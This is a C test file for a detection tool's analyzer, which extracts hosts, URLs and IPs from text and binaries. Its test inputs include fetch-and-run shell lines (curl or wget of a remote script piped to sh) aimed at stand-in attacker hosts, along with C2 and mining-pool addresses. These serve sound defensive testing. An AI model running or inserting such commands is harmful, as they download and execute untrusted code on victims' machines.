// SPDX-License-Identifier: Apache-2.0
#include "base/cpu.h"
#include "base/strbuf.h"
#include "harness/test.h"
#include "inspect/analyzer.h"
#include "inspect/hostname.h"
#include "inspect/name_place.h"

static const char *list(const struct facts *f, enum field_id id)
{
    static char text[4][512];
    static unsigned turn;
    char *t = text[turn++ % 4];
    t[0] = 0;
    const struct value *v = facts_get(f, id);
    for (size_t i = 0; v->type == VALUE_LIST && i < v->list.n; i++)
        snprintf(t + strlen(t), 512 - strlen(t), "%s%.*s", i ? "," : "", STR_ARG(v->list.v[i].s));
    return t;
}

static void look(struct str data, bool is_text, struct facts *f)
{
    struct content c = {.data = data,
                        .first = true,
                        .last = true,
                        .is_text = is_text,
                        .kind = is_text ? KIND_TEXT : KIND_ELF};
    facts_init(f);
    facts_reset(f, EVENT_FILE, 0);
    analyzer_names.look(NULL, NULL, &c, f);
}

static void check(const char *data, const char *hosts, const char *urls, const char *ips)
{
    struct facts f;
    look(str_from(data), true, &f);
    CHECK_CSTR(list(&f, F_CONTENT_HOSTS), hosts);
    CHECK_CSTR(list(&f, F_CONTENT_URLS), urls);
    CHECK_CSTR(list(&f, F_CONTENT_IPS), ips);
    facts_done(&f);
}

static void check_places(void)
{
    char text[200];
    for (size_t n = 0; n <= sizeof(text); n++)
        for (size_t at = 0; at < n; at += 7) {
            bool is_within = at && at + 1 < n;
            memset(text, ' ', sizeof(text));
            text[at] = '.';
            CHECK_INT(name_place_dot(str_n(text, n), 0), n); /* between blanks */
            memset(text, 'w', sizeof(text));
            text[at] = '.';
            CHECK_INT(name_place_dot(str_n(text, n), 0), is_within ? at : n);
            CHECK_INT(name_place_dot(str_n(text, n), at + 1), n);
            text[at] = ':';
            CHECK_INT(name_place_colon(str_n(text, n), 0), n);
            if (at + 1 < n)
                text[at + 1] = '8';
            CHECK_INT(name_place_colon(str_n(text, n), 0), at + 1 < n ? at : n);
            if (at + 2 < n)
                text[at + 1] = text[at + 2] = '/';
            CHECK_INT(name_place_colon(str_n(text, n), 0), at + 1 < n ? at : n);
        }
    CHECK_INT(name_place_dot(STR_NULL, 0), 0);
    CHECK_INT(name_place_colon(STR("a:0 b:/x c:"), 0), 11);
}

TEST(places_are_found_wherever_they_lie_whatever_the_processor_has)
{
    check_places();
    cpu_allow(0);
    check_places();
    cpu_allow(CPU_ALL);
}

TEST(urls)
{
    check("curl -s HTTP://A.Evil.TOP:8080/x/y.sh?k=v | sh", "a.evil.top", "HTTP://a.evil.top:8080/x/y.sh",
          "");
    check("see <https://x.example/>, (http://y.example).", "x.example,y.example",
          "https://x.example/,http://y.example", "");
    check("http://203.0.113.7/a http://10.0.0.1/b http://[2001:db8::1]:80/c", "",
          "http://203.0.113.7/a,http://10.0.0.1/b,http://[2001:db8::1]:80/c", "203.0.113.7,2001:db8::1");
    check("https://abcdefghij234567.onion/x", "abcdefghij234567.onion", "https://abcdefghij234567.onion/x",
          "");
    check("://x.com x:// http:///a http://localhost/", "", "", "");
}

TEST(urls_hold_no_secret)
{
    check("https://me:hunter2@x.example/bot/AAbb11ccDD22eeFF33gg44/send#t", "x.example",
          "https://x.example/bot/*/send", "");
}

TEST(hosts_with_ports)
{
    check("pool = pool.example.com:3333", "pool.example.com", "", "");
    check("main.rs:10 test.py:3 a.c:7 12:30 lib.so:1 Foo::bar:80 README.md:5", "", "", "");
    check("198.51.100.4:443 192.168.1.1:80 1.2.3:4", "", "", "198.51.100.4");
}

TEST(words)
{
    check("wget evil.top/x.sh -O- ; ping c2.example.ru; curl evil.io/x x.py/y\n",
          "evil.top,c2.example.ru,evil.io", "", "");
    check("import os.path; self.io = foo.name; x.id.to version 1.2.3.4 10.0.0.0/8 e.g. i.e. libc.so.6 a.is, "
          "node.js\n",
          "", "", "");
    check("curl 203.0.113.9/x 203.0.113.0/24", "", "", "203.0.113.9");
}

TEST(domains_are_hosts_and_their_parents)
{
    struct facts f;
    look(STR("ssh a.b.evil.example.org:22 b.evil.example.org:22"), true, &f);
    CHECK_CSTR(list(&f, F_CONTENT_DOMAINS),
               "a.b.evil.example.org,b.evil.example.org,evil.example.org,example.org");
    facts_done(&f);
}

TEST(programs)
{
    struct facts f;
    look(STR("\0c2.evil.ru\0glued.evil.ruand\1x.name.y\0https://z.example/q\0pool.evil.cn:80\0"), false, &f);
    CHECK_CSTR(list(&f, F_CONTENT_HOSTS), "z.example,pool.evil.cn,c2.evil.ru");
    facts_done(&f);
}

/* Go and Rust keep strings without anything between them. */
TEST(strings_that_stand_close)
{
    struct facts f;
    look(STR("closedhttps://one.example.com/apihttps://three.example.org/xBodyhttp://four.example.com:8080POST\0"
             "9stratum+tcp://pool.example.net:3333superfluous\0https://two.example.orgGET\0wss://five.example.iovalue "),
         false, &f);
    CHECK_CSTR(list(&f, F_CONTENT_HOSTS),
               "one.example.com,three.example.org,four.example.com,pool.example.net,two.example.org,five.example.io");
    CHECK_CSTR(list(&f, F_CONTENT_URLS),
               "https://one.example.com/api,https://three.example.org/xBody,http://four.example.com:8080,"
               "stratum+tcp://pool.example.net:3333,https://two.example.org,wss://five.example.io");
    facts_done(&f);
    /* In text such a name is what it says. */
    look(STR("https://x.example.orgget/ http://a.example/?u=http://b.example/"), true, &f);
    CHECK_CSTR(list(&f, F_CONTENT_HOSTS), "x.example.orgget,a.example");
    facts_done(&f);
}

TEST(lists_are_bounded)
{
    _cleanup_(strbuf_done) struct strbuf b = {};
    for (unsigned i = 0; i < 2000; i++)
        strbuf_printf(&b, "http://h%u.example/%u\n", i, i);
    struct facts f;
    look(strbuf_str(&b), true, &f);
    CHECK_INT(facts_get(&f, F_CONTENT_URLS)->list.n, FACTS_LIST_MAX);
    CHECK(f.n_notes < FACTS_NOTES_MAX / 4);
    facts_done(&f);
}
